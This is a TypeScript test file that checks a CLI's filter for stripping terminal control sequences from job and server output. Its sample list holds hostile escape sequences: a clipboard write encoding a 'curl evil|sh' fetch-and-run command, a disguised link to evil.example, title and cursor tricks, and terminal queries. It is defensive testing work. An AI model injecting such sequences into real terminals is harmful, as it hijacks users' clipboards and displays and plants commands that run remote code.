import { readdir, readFile } from 'node:fs/promises'
import t from 'tap'
import { jsonText, TerminalFilter } from '../../cli/terminal.js'

// Found by review 21: the CLI wrote a job's output, its compiler's messages and the server's
// text to the terminal as they came, so a job could write the clipboard (OSC 52), the window
// title, disguised links (OSC 8), or move the cursor over what the CLI printed.

const ESC = '\x1b'
const HOSTILE = [
  `${ESC}]52;c;Y3VybCBldmlsfHNoCg==\x07`, // clipboard
  `${ESC}]0;pwned${ESC}\\`, // title, ended by ST
  `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`, // a link
  `${ESC}[2K${ESC}[1A${ESC}[H`, // erase and move
  `${ESC}[6n${ESC}[>c${ESC}P$q m${ESC}\\`, // queries a terminal answers as typed input
  '\x9b2J\x9d0;c1 title\x9c', // the same as C1 controls
  `${ESC}_apc${ESC}\\${ESC}^pm${ESC}\\${ESC}Xsos${ESC}\\${ESC}c${ESC}(0`, // strings, reset, a charset
  '\x00\x07\x08\x0b\x0c\x7f\x85', // lone controls
]

function filterAll(text: string, pieces: number): string {
  const filter = new TerminalFilter()
  let out = ''
  const size = Math.max(1, Math.ceil(text.length / pieces))
  for (let i = 0; i < text.length; i += size) out += filter.push(text.slice(i, i + size))
  return out
}

t.test('control sequences are dropped whole; text, tabs, line ends and colours are kept', async (t) => {
  for (const seq of HOSTILE) {
    const text = `before ${seq}after\n`
    for (const pieces of [1, 3, text.length]) {
      const out = filterAll(text, pieces)
      t.notMatch(out, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, `${JSON.stringify(seq)} in ${pieces} pieces`)
    }
  }
  t.equal(filterAll(`a${ESC}]52;c;eA==\x07b\n`, 1), 'ab\n', 'the text around a sequence stays')
  t.equal(filterAll(`${ESC}]0;title${ESC}\\shown`, 40), 'shown', 'cut anywhere, the same')
  const colours = `${ESC}[1;31mred${ESC}[0m\tok\r\n`
  t.equal(filterAll(colours, 1), colours, 'SGR, tab, CR and LF pass')
  t.equal(filterAll(colours, colours.length), colours, 'SGR cut in pieces comes out whole')
  t.equal(filterAll(`${ESC}[38:2:1:2:3mx`, 1), `${ESC}[38:2:1:2:3mx`, 'true colour too')
  t.equal(filterAll(`${ESC}[?1049h${ESC}[31;>mx`, 1), 'x', 'but no other CSI, nor an SGR with private bytes')
  t.equal(filterAll(`${ESC}[${'1;'.repeat(40)}mx`, 1), 'x', 'nor an SGR too long to be colours')
  t.equal(filterAll('naïve 日本 🙂\n', 5), 'naïve 日本 🙂\n', 'any printable character')
  // From the code review: an ESC that ends a string begins a sequence, and a control after an
  // ESC is text again, as terminals read them (text was lost).
  t.equal(filterAll(`x${ESC}]0;t${ESC}[31mhello\nworld`, 1), `x${ESC}[31mhello\nworld`, 'a string ended by a sequence')
  t.equal(filterAll(`a${ESC}\nb`, 3), 'a\nb', 'a line end after a lone ESC')
  t.equal(filterAll(`${ESC}]52;c;${'A'.repeat(100_000)}`, 7), '', 'an unended string hides what follows, not more')
})

t.test('JSON for a terminal escapes every control; parsed, it is the same value', async (t) => {
  const value = { out: '\x1b]0;x\x07\x9b2J\x7f\u2028', n: 1 }
  const text = jsonText(value)
  t.notMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]/)
  t.same(JSON.parse(text), value)
})

t.test("every word the CLI prints goes through the terminal's filter", async (t) => {
  // One way out for text, so no command can print a job's output or the server's words raw.
  const root = new URL('../../cli/', import.meta.url)
  const files = (await readdir(root, { recursive: true })).filter((f) => f.endsWith('.ts') && f !== 'terminal.ts')
  t.ok(files.length > 5, `${files.length} files`)
  for (const f of files) {
    const text = await readFile(new URL(f, root), 'utf8')
    t.notMatch(
      text,
      /process\.(stdout|stderr)\.write|console\.(log|error|warn|info)/,
      `${f} prints through cli/terminal.ts`,
    )
  }
})
